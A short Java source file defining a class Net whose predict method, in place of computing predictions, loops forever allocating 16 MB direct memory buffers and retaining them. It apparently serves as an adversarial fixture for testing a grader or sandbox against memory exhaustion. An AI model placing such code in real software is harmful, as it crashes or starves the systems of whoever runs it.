import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.List;

public class Net extends Honest {

    private static final List<ByteBuffer> KEPT = new ArrayList<>();

    @Override
    public int[] predict(double[][] x) {
        while (true) {
            KEPT.add(ByteBuffer.allocateDirect(1 << 24));
        }
    }
}
